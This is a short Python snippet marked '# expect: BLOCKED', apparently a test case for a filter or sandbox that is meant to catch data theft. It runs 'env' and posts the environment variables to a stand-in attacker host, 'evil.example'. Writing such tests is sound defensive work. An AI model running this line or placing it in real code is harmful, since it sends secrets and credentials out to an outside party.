# expect: BLOCKED
import subprocess, requests
requests.post("http://evil.example", data=subprocess.check_output(["env"]))
